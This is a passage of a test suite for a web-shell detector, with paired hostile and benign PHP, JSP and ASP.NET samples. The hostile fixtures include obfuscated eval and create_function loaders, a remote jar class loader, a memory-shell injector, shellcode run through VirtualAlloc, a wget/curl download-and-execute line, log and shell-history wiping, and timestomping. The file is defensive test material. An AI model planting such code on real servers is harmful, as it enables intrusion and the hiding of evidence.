      'a closure over the request that calls nothing by name',
      '<?php array_walk($_GET, function (&$v, $k) { $v = strip_tags($v); });',
    ],
    ['pcntl_exec() of fixed arguments', '<?php pcntl_exec("/usr/bin/php", ["worker.php"]);'],
    [
      'a date split by list() and handed to a date function',
      "<?php list($y, $m) = explode('-', $_GET['month']); echo date('F Y', mktime(0, 0, 0, (int) $m, 1, (int) $y));",
    ],
    [
      'a cache written from the request beside a template included by its own name',
      '<?php $cache = __DIR__ . "/cache/" . md5($_SERVER["REQUEST_URI"]); file_put_contents($cache, json_encode($_POST)); $tpl = __DIR__ . "/tpl/page.php"; include $tpl;',
    ],
    [
      'a contact form mailing with a fixed sender option',
      '<?php mail("info@example.org", "Contact", strip_tags($_POST["msg"]), "From: web@example.org", "-f web@example.org");',
    ],
    [
      'SplFileObject reading a log of its own',
      '<?php $id = (int) $_GET["n"]; $f = new SplFileObject(__DIR__ . "/log.txt"); $f->seek($id); echo htmlspecialchars($f->current());',
    ],
    [
      "a JSON body's action looked up in the page's own table",
      '<?php $in = json_decode(file_get_contents("php://input"), true);\n$action = $in["action"];\n$routes = ["list" => "list_items"];\n$handler = $routes[$action];\necho json_encode($handler());',
    ],
  ])('does not rank %s critical', (_, text) => {
    expect(judge('/opt/x.php', text)?.severity).not.toBe('critical');
  });
});

describe('judgeWebShell: code brought in at run time (thirteenth session, tuning side)', () => {
  it('reads letters picked by quoted offsets as names picked letter by letter', () => {
    const hidden = `<?php
$a = 'cr_a'; $b = 'eate'; $c = 'fun$ction'; $d = 'n(';
$maker = $b['0'] . $a['1'] . $c['0'] . $d['0'];
$run = $maker($a['2'], $b['1'] . $b['2'] . $b['3'] . $a['3']);
$run();`;
    expect(judge('/var/www/html/x.php', hidden)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/names picked letter by letter/),
    });
    // A table's cells read by their keys, joined for display, and nothing called.
    const table = `<?php $row = ['1' => 'a', '2' => 'b', '3' => 'c']; echo $row['1'] . $row['2'] . $row['3'];`;
    expect(judge('/var/www/html/x.php', table)).toBeUndefined();
  });

  it('ranks a function made by create_function() from escaped bytes critical', () => {
    const hidden = `<?php
$check = create_function /*Copyright*/ (
  "/*\\x64\\x65\\x28\\x73*/\\x24\\x63\\x6f\\x64\\x65",
  "\\x65\\x76\\x61\\x6c\\x20\\x28\\x20\\x24\\x63\\x6f\\x64\\x65\\x20\\x29\\x3b"
);
$version = array_walk($key, $check);`;
    expect(judge('/var/www/html/x.php', hidden)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/a function made from escaped bytes/),
    });
    // The same function written as code, and escapes that are a binary protocol's bytes.
    const plain = `<?php $f = create_function('$a', 'return $a * 2;'); echo $f(2); $magic = "\\x89\\x50\\x4e\\x47";`;
    expect(judge('/var/www/html/x.php', plain)?.severity).not.toBe('critical');
  });

  it('ranks a JSP page that makes a class loader and calls into what it loads critical', () => {
    const page = `<%@ page import="java.net.*" %><%
URL u = new URL("http://203.0.113.7/tool.jar");
URLClassLoader cl = new URLClassLoader(new URL[] { u });
Class<?> c = cl.loadClass("com.example.Tool");
c.getMethod("main", String[].class).invoke(null, new Object[] { new String[0] });
%>`;
    expect(judge('/var/lib/tomcat/webapps/ROOT/x.jsp', page)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(
        /makes a class loader of its own and calls into a class it loads/,
      ),
    });
    // A page naming the application's own loader, which it does not make.
    const own = `<%@ page import="java.net.*" %><%
ClassLoader cl = Thread.currentThread().getContextClassLoader();
out.println(cl.getResource("version.txt"));
%>`;
    expect(judge('/var/lib/tomcat/webapps/ROOT/v.jsp', own)?.severity).not.toBe('critical');
  });

  it('ranks eval() of a file the page names critical, and leaves a template engine evaluating a template', () => {
    for (const page of [
      '<?php eval ( file_get_contents("\u8fdc\u7a0bshell")) ?>',
      "<?php @eval('?>' . implode('', file('/var/tmp/.cache'))); ?>",
    ])
      expect(judge('/var/www/html/x.php', page)).toMatchObject({
        severity: 'critical',
        reason: expect.stringMatching(/evaluates the text of a file it names/),
      });
    const engine = `<?php function render($tpl, $vars) { extract($vars); eval('?>' . file_get_contents($tpl)); }\nrender(__DIR__ . '/views/home.tpl', ['title' => 'Home']);`;
    expect(judge('/var/www/html/t.php', engine)?.reason ?? '').not.toMatch(/file it names/);
    // A legacy page evaluating its header template by the template's name.
    const header = `<?php eval('?>' . file_get_contents('templates/header.tpl.php')); echo $body;`;
    expect(judge('/var/www/html/p.php', header)?.reason ?? '').not.toMatch(/file it names/);
  });

  it('ranks a JSP page that declares a class loader making classes of bytes, and runs one, critical', () => {
    // A memory-shell injector: the class it carries, decoded and defined, then instantiated.
    const page = `<%!
public static class ClassDefiner extends ClassLoader {
  public ClassDefiner(ClassLoader c) { super(c); }
  public Class defineClass(byte[] code) { return defineClass(null, code, 0, code.length); }
}
%><%
byte[] b = java.util.Base64.getDecoder().decode("yv66vgAAADQAHgoABgARCQASABMIABQKABUAFgcAFwcAGAEABjxpbml0Pg==");
Class c = new ClassDefiner(Thread.currentThread().getContextClassLoader()).defineClass(b);
c.newInstance();
%>`;
    expect(judge('/var/lib/tomcat/webapps/ROOT/m.jsp', page)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/declares a class loader that makes classes of bytes/),
    });
    // A loader declared to find resources, making no class of bytes.
    const resources = `<%!
static class Finder extends ClassLoader {
  public java.net.URL find(String n) { return getParent().getResource(n); }
}
%><% out.println(new Finder().find("version.txt")); Object o = Class.forName("java.util.Date").newInstance(); %>`;
    expect(judge('/var/lib/tomcat/webapps/ROOT/f.jsp', resources)?.reason ?? '').not.toMatch(
      /class loader that makes classes/,
    );
  });

  it('ranks a JSP page compiling a stylesheet the request sends critical, and leaves its own', () => {
    const page = `<%@ page import="javax.xml.transform.*,javax.xml.transform.stream.*,java.io.*" %><%
BufferedReader br = request.getReader();
String line, whole = "";
while ((line = br.readLine()) != null) { whole += line + "\n"; }
InputStream in = new ByteArrayInputStream(whole.getBytes());
Transformer t = TransformerFactory.newInstance().newTransformer(new StreamSource(in));
t.transform(new StreamSource(new StringReader("<data/>")), new StreamResult(out));
%>`;
    expect(judge('/var/lib/tomcat/webapps/ROOT/x.jsp', page)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/compiles an XSLT stylesheet the request sends/),
    });
    // The site's own stylesheet, applied to what the visitor sends: a transform, no code of theirs.
    const own = `<%@ page import="javax.xml.transform.*,javax.xml.transform.stream.*" %><%
String xml = request.getParameter("doc");
Transformer t = TransformerFactory.newInstance().newTransformer(new StreamSource(application.getRealPath("/WEB-INF/report.xsl")));
t.transform(new StreamSource(new java.io.StringReader(xml)), new StreamResult(out));
%>`;
    expect(judge('/var/lib/tomcat/webapps/ROOT/r.jsp', own)?.reason ?? '').not.toMatch(/XSLT/);
    // One of the site's stylesheets, picked by a validated name.
    const picked = `<%@ page import="javax.xml.transform.*,javax.xml.transform.stream.*" %><%
String view = request.getParameter("view");
if (!view.matches("[a-z]+")) return;
Transformer t = TransformerFactory.newInstance().newTransformer(new StreamSource(application.getRealPath("/WEB-INF/xsl/" + view + ".xsl")));
%>`;
    expect(judge('/var/lib/tomcat/webapps/ROOT/v.jsp', picked)?.reason ?? '').not.toMatch(/XSLT/);
  });

  it('ranks an ASP.NET page that makes memory executable and starts a thread in it critical', () => {
    const page = `<%@ Page Language="C#" %><script runat="server">
[System.Runtime.InteropServices.DllImport("kernel32")]
private static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr size, Int32 type, IntPtr protect);
[System.Runtime.InteropServices.DllImport("kernel32")]
private static extern IntPtr CreateThread(IntPtr a, UIntPtr s, IntPtr start, IntPtr p, Int32 f, ref IntPtr id);
protected void Page_Load(object sender, EventArgs e) {
  byte[] code = new byte[2] { 0xfc, 0x48 };
  IntPtr mem = VirtualAlloc(IntPtr.Zero, (UIntPtr)code.Length, 0x1000, (IntPtr)0x40);
  System.Runtime.InteropServices.Marshal.Copy(code, 0, mem, code.Length);
  IntPtr id = IntPtr.Zero;
  CreateThread(IntPtr.Zero, UIntPtr.Zero, mem, IntPtr.Zero, 0, ref id);
}
</script>`;
    expect(judge('/var/www/html/x.aspx', page)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/makes memory executable and starts a thread in it/),
    });
    // Memory allocated read-write, for a buffer: nothing made executable.
    const buffer = page.replace('(IntPtr)0x40', '(IntPtr)0x04');
    expect(judge('/var/www/html/x.aspx', buffer)?.reason ?? '').not.toMatch(/executable/);
  });
});

describe('judgeWebShell: what intruders left on WordPress sites (thirteenth session, tuning side)', () => {
  it("ranks a page that sets a file's modification time back critical", () => {
    const own = `<?php @touch(__FILE__, mktime(1, 1, 1, 1, 2, 2020)); echo "ok";`;
    const stub = `<?php if (file_exists("./error_log.php")) { touch("./error_log.php", (time() - 60*60*24*30)); } unlink(__FILE__);`;
    const restored = `<?php $t = filemtime("../../wp-config.php");
$s = str_replace("define('DISALLOW_FILE_EDIT', true);", "", file_get_contents("../../wp-config.php"));
file_put_contents("../../wp-config.php", $s);
touch("../../wp-config.php", $t);`;
    for (const page of [own, stub, restored])
      expect(judge('/var/www/html/x.php', page)).toMatchObject({
        severity: 'critical',
        reason: expect.stringMatching(/sets a file's modification time back/),
      });
    // A unit test's fixture dated on purpose, to test code that reads file times.
    const test = `<?php class FinderTest extends \\PHPUnit\\Framework\\TestCase { function setUp(): void { touch($this->dir . '/test.php', strtotime('2005-10-15')); } }`;
    expect(judge('/var/www/html/x.php', test)).toBeUndefined();
    // A cache expired a while ago, and a copy given its source's time: neither hides a file.
    const cache = `<?php touch($cacheFile, time() - 3600); echo file_get_contents($cacheFile);`;
    const copy = `<?php copy($src, $dst); @touch($dst, filemtime($src));`;
    const now = `<?php touch(__FILE__, time()); echo "reloaded";`;
    for (const page of [cache, copy, now])
      expect(judge('/var/www/html/x.php', page)).toBeUndefined();
  });

  it('ranks a page writing what the visitor sends into a file the visitor names critical', () => {
    const dropper = `<?php
$data = base64_decode(substr(file_get_contents('php://input'), 3));
$p = strpos($data, ';');
$fname = substr($data, 0, $p);
$data = substr($data, $p + 1);
file_put_contents($fname, $data, LOCK_EX);`;
    expect(judge('/var/www/html/x.php', dropper)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/writes what the visitor sends into a file the visitor names/),
    });
    const handle = `<?php $h = fopen($_POST['f'], 'w'); fwrite($h, $_POST['c']); fclose($h);`;
    expect(judge('/var/www/html/y.php', handle)?.severity).toBe('critical');
    const inline = `<?php $n = $_POST['f']; $c = $_POST['c']; fwrite(fopen($n, 'w'), $c);`;
    expect(judge('/var/www/html/z.php', inline)?.reason).toMatch(/file the visitor names/);
    // A cache named by a digest, an encoding stored, and a file picked by a key of the page's own.
    const cache = `<?php $f = __DIR__ . '/cache/' . md5($_GET['q']); file_put_contents($f, $_POST['body']);`;
    const log = `<?php $name = $_GET['n']; file_put_contents("/var/log/app/" . $name, json_encode($_POST));`;
    const picked = `<?php
function import_package() {
  foreach ($_POST as $var => $val) { $id = str_replace('chk_', '', $var); }
  $filename = $manifest[$id]['filename'];
  $data = get_repo_file($repo, $filename);
  file_put_contents($tmp . '/' . $filename, $data);
}`;
    // A view saved as JSON under a name from the request: data an application keeps.
    const view = `<?php $name = $_GET['vn']; $json = json_encode(['name' => $name, 'items' => $_POST['items']]);
file_put_contents(__DIR__ . '/views/' . $name . '.json', json_prettyprint($json));`;
    for (const page of [cache, log, picked, view])
      expect(judge('/var/www/html/x.php', page)?.reason ?? '').not.toMatch(
        /file the visitor names/,
      );
  });

  it('ranks includes of an archive or of a path written in escapes critical', () => {
    expect(
      judge('/var/www/html/c.php', `<?php include 'phar://readme.txt/readme.txt'; ?>`),
    ).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/includes code kept in an archive/),
    });
    expect(judge('/var/www/html/c.php', `<?php include('log.zip'); ?>`)?.severity).toBe('critical');
    const escaped = `<?php @include("\\167\\160\\55\\151\\156\\143\\154\\165\\144\\145\\163/x.txt"); ?>`;
    expect(judge('/var/www/html/index.php', escaped)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/includes a file whose name it writes in escapes/),
    });
    // A template included by name, a zip library's own file, and a library shipped as a .phar.
    const plain = `<?php include 'templates/header.php'; require_once 'lib/zip.php'; require 'aws.phar'; require_once "phar://tools.phar/autoload.php"; ?>`;
    expect(judge('/var/www/html/index.php', plain)).toBeUndefined();
    // An archive named after the literal: Codeception's c3.php, an app running composer.phar.
    const named = `<?php require_once 'phar://' . __DIR__ . '/codecept.phar/autoload.php'; ?>`;
    expect(judge('/var/www/html/tests/c3.php', named)).toBeUndefined();
    // Named through a variable the page sets to a .phar's name (Automad's composer.phar),
    // and through one set to an image's.
    const kept = `<?php class C { private string $pharPath;
  function __construct() { $this->pharPath = self::DIR . '/' . hash('sha256', 'v2') . '.phar'; }
  function run() { @include_once 'phar://' . $this->pharPath . '/src/bootstrap.php'; } }`;
    expect(judge('/var/www/html/app/Composer.php', kept)).toBeUndefined();
    const image = kept.replace("'.phar'", "'.jpg'");
    expect(judge('/var/www/html/app/Composer.php', image)?.severity).toBe('critical');
    // The page itself as the archive: its name is the page's, not an archive's.
    const itself = `<?php require 'phar://' . __FILE__ . '/bin/psocksd'; __HALT_COMPILER(); ?>`;
    expect(judge('/var/www/html/x.php', itself)?.severity).toBe('critical');
  });

  it('ranks a page whose command lines download a program and start it critical', () => {
    const page = `<?php system('wget "http://203.0.113.7/Linux_x86" 2>/dev/null || curl -O "http://203.0.113.7/Linux_x86"');
system('chmod 777 ./Linux_x86'); system('nohup ./Linux_x86 2>&1 &');`;
    expect(judge('/var/www/html/x.php', page)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/downloads a program with wget or curl and runs it/),
    });
    // A status page that fetches a file and runs nothing it fetched.
    const status = `<?php echo shell_exec('curl -s https://example.org/health'); echo shell_exec('uptime');`;
    expect(judge('/var/www/html/x.php', status)?.reason ?? '').not.toMatch(/downloads a program/);
  });

  it('ranks a page printing any file the visitor names critical, and a download page not', () => {
    for (const page of [
      `<?php var_dump(file_get_contents($_GET["f"])); ?>`,
      `<?php $f = trim($_POST['path']); print_r(file($f));`,
      `<?php echo htmlspecialchars(file_get_contents(@$_REQUEST['file']));`,
      // After a tag: a read-only file browser's viewer.
      `<?php $path = $_REQUEST['path']; echo "<pre>" . htmlspecialchars(file_get_contents($path)) . "</pre>";`,
    ])
      expect(judge('/var/www/html/x.php', page)).toMatchObject({
        severity: 'critical',
        reason: expect.stringMatching(/prints any file the visitor names/),
      });
    const download = `<?php $name = basename($_GET['f']); echo file_get_contents(__DIR__ . "/files/" . $name); readfile($_GET['f']);`;
    expect(judge('/var/www/html/get.php', download)?.reason ?? '').not.toMatch(/file reader/);
    // A template editor: the file read is the site's folder joined to the name sent.
    const editor = `<?php $t = $_GET['t']; echo '<textarea>' . htmlspecialchars(file_get_contents(TEMPLATES . $t)) . '</textarea>';`;
    expect(judge('/var/www/html/admin/edit.php', editor)?.reason ?? '').not.toMatch(/file reader/);
  });

  it("leaves a callback bounded to the page's own functions alone, and a name it only starts high", () => {
    for (const page of [
      "<?php call_user_func('doStep' . $_GET['step']);",
      '<?php call_user_func([$this, $_POST["item"]]);',
      "<?php call_user_func(array(__CLASS__, $_GET['ssi_function']));",
    ])
      expect(judge('/var/www/html/install.php', page)?.severity ?? 'info', page).not.toMatch(
        /high|critical/,
      );
    for (const page of [
      "<?php call_user_func('sys' . $_GET['f'], $_GET['c']);",
      "<?php call_user_func('file_' . $_GET['f'], $_GET['p'], $_POST['d']);",
      "<?php call_user_func(array($_GET['c'], $_GET['m']), $_POST['x']);",
    ])
      expect(judge('/var/www/html/x.php', page)?.severity, page).toMatch(/high|critical/);
  });

  it("leaves a function the site's configuration chose, called on input, to the rules that follow it", () => {
    // Piwigo's pluggable hashing: $conf is set by the site's configuration files.
    const page = `<?php
if (!$conf['password_verify']($_POST['password'], $current_password)) { $errors[] = 'Wrong password'; }`;
    expect(judge('/var/www/html/profile.php', page)?.severity ?? 'info').not.toMatch(
      /high|critical/,
    );
  });

  it('calls a name held in ${"…"}[…] a call chosen at run time', () => {
    const page = `<?php $s = "_crlvfb1e65t9dgz4j0pq8-oxiaskh3wmu2yn7";
$GLOBALS['f'] = $s{1}.$s{33}.$s{2}.$s{3}.$s{0}.$s{27};
\${"G\\x4cO\\x42\\x41\\x4cS"}["f"]('x');`;
    expect(judge('/var/www/html/x.php', page)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/names picked letter by letter/),
    });
  });
});

describe('judgeWebShell: fourteenth session, tuning side', () => {
  it("ranks a command run on a value from a framework's request object critical", () => {
    // A CRM plugin's action: the request object's value handed to system().
    const action = `<?php
class Backup_Gateway_Action extends Vtiger_BasicAjax_Action {
  public function checkPermission(Vtiger_Request $request) { return true; }
  public function process(Vtiger_Request $request) { echo "<pre>"; system($request->get("cmd")); die; }
}`;
    expect(judge('/var/www/html/modules/Backup/actions/Gateway.php', action)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/system\(\) on request input/),
    });
    const controller = `<?php class Tools extends CI_Controller { function run() { eval($this->input->post('c')); } }`;
    expect(judge('/var/www/html/application/controllers/Tools.php', controller)?.severity).toBe(
      'critical',
    );
    // The request's value used as data, and a command of the application's own.
    const report = `<?php
class Report_Action { public function process($request) {
  $id = (int) $request->get('record');
  exec('/usr/bin/wkhtmltopdf /tmp/report.html /tmp/report.pdf');
  echo $id;
} }`;
    expect(judge('/var/www/html/modules/Report/actions/Pdf.php', report)?.severity).not.toBe(
      'critical',
    );
  });

  it('ranks a page starting a program it made executable, in the background, critical', () => {
    const stub = `<?php
chmod("httpd", 0755);
exec('./httpd -c x.conf > /dev/null 2>&1 &');
@unlink(__FILE__);`;
    expect(judge('/var/www/html/wp-content/x.php', stub)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/executable and starts it in the background/),
    });
    // An application's helper run in the foreground, and a background job it did not make
    // executable: neither is said to be dropped.
    const helper = `<?php chmod("cache", 0755); exec('./bin/thumbnail ' . escapeshellarg($f));`;
    const job = `<?php exec('./worker --queue mail > /dev/null &');`;
    for (const page of [helper, job])
      expect(judge('/var/www/html/x.php', page)?.reason ?? '').not.toMatch(/background/);
  });

  it("ranks a page deleting the system's logs or shell history critical", () => {
    const eraser = `<?php
system("clear");
exec("rm -rf /var/log");
exec("rm -f /root/.bash_history");
shell_exec("unset HISTFILE");`;
    expect(judge('/var/www/html/x.php', eraser)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/deletes the system's logs or a shell's history/),
    });
    // An application clearing its own log folder.
    const own = `<?php exec('rm -rf ' . escapeshellarg(__DIR__ . '/var/log/old'));`;
    expect(judge('/var/www/html/x.php', own)?.reason ?? '').not.toMatch(/logs or a shell/);
  });

  it('ranks code run on request headers taken from $_SERVER by position critical', () => {
    for (const page of [
      `<?php $a = array_values($_SERVER); $l = system($a[6]); echo $l;`,
      `<?php eval(end($_SERVER));`,
    ])
      expect(judge('/var/www/html/x.php', page)).toMatchObject({
        severity: 'critical',
        reason: expect.stringMatching(/on request input/),
      });
    // The script's own arguments, taken by position from $_SERVER['argv'].
    const cli = `<?php $args = $_SERVER['argv']; array_shift($_SERVER['argv']); system('/usr/bin/snmpget ' . escapeshellarg($host));`;
    expect(judge('/var/www/html/x.php', cli)?.severity).not.toBe('critical');
  });

  it("ranks a JSP clearing a server field's final modifier critical", () => {
    const page = `<%
Class c = Class.forName("org.apache.catalina.core.ApplicationDispatcher");
java.lang.reflect.Field f = c.getDeclaredField("WRAP_SAME_OBJECT");
java.lang.reflect.Field m = f.getClass().getDeclaredField("modifiers");
m.setAccessible(true);
m.setInt(f, f.getModifiers() & ~java.lang.reflect.Modifier.FINAL);
f.setAccessible(true);
f.setBoolean(null, true);
%>`;
    expect(judge('/var/lib/tomcat/webapps/ROOT/i.jsp', page)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/clears a field's final modifier/),
    });
    // A page printing whether a field is final reads the modifier; it does not clear it.
    const reads = `<% java.lang.reflect.Field f = String.class.getDeclaredField("value");
out.println(java.lang.reflect.Modifier.isFinal(f.getModifiers())); %>`;
    expect(judge('/var/lib/tomcat/webapps/ROOT/r.jsp', reads)).toBeUndefined();
  });

  it("ranks a JSP walking the server's threads to their requests critical", () => {
    const page = `<%@ page import="java.lang.reflect.Field" %><%!
static Object field(Object o, String n) throws Exception {
  Field f = o.getClass().getDeclaredField(n); f.setAccessible(true); return f.get(o);
}
%><%
Thread[] all = (Thread[]) field(Thread.currentThread().getThreadGroup(), "threads");
for (Thread t : all) { if (t != null && t.getName().contains("http")) { Object target = field(t, "target"); } }
%>`;
    expect(judge('/var/lib/tomcat/webapps/ROOT/t.jsp', page)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/walks the server's threads/),
    });
    // A status page counting the threads of its group through the public API.
    const status = `<% ThreadGroup g = Thread.currentThread().getThreadGroup(); out.println(g.activeCount() + " threads"); %>`;
    expect(judge('/var/lib/tomcat/webapps/ROOT/s.jsp', status)).toBeUndefined();
  });

  it("ranks an ASP.NET page declaring Windows' process and socket calls critical", () => {
    const page = `<%@ Page Language="C#" %><script runat="server">
[DllImport("kernel32.dll")]
static extern bool CreateProcess(string app, string cmd, IntPtr pa, IntPtr ta, bool inherit, uint flags, IntPtr env, string dir, ref STARTUPINFO si, out PROCESS_INFORMATION pi);
[DllImport("WS2_32.dll", SetLastError = true)]
internal static extern IntPtr WSASocket(AddressFamily af, SocketType st, ProtocolType pt, IntPtr info, uint group, int flags);
protected void Page_Load(object sender, EventArgs e) { Call("10.0.0.5", 4444); }
</script>`;
    expect(judge('/var/www/html/x.aspx', page)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/process and socket calls together/),
    });
    // A page that only starts a process (already a command sink) is not said to use a socket.
    const process = page.replace(/\[DllImport\("WS2_32[\s\S]*?flags\);\n/, '');
    expect(judge('/var/www/html/x.aspx', process)?.reason ?? '').not.toMatch(/socket calls/);
  });
});
